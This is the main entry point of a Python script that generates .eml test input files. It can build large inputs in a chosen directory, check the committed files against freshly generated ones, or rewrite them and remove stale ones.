def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--large", type=Path, metavar="DIR", help="build the large inputs here")
    parser.add_argument("--check", action="store_true", help="compare with the committed files")
    args = parser.parse_args(argv)
    if args.large:
        for name, path in build_large(args.large).items():
            print(f"{path.stat().st_size:>12,}  {name}")
        return 0
    files = build_small()
    stale = sorted(
        p.name for p in HERE.glob("*.eml") if p.name not in files
    )
    if args.check:
        changed = [n for n, data in files.items()
                   if not (HERE / n).is_file() or (HERE / n).read_bytes() != data]
        for name in changed + stale:
            print(f"differs: {name}")
        return 1 if changed or stale else 0
    for name in stale:
        (HERE / name).unlink()
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    total = sum(len(d) for d in files.values())
    print(f"{len(files) - 1} inputs, {total:,} bytes, "
          f"{sum(1 for c in CASES if c.large)} large ones listed (--large DIR builds them)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
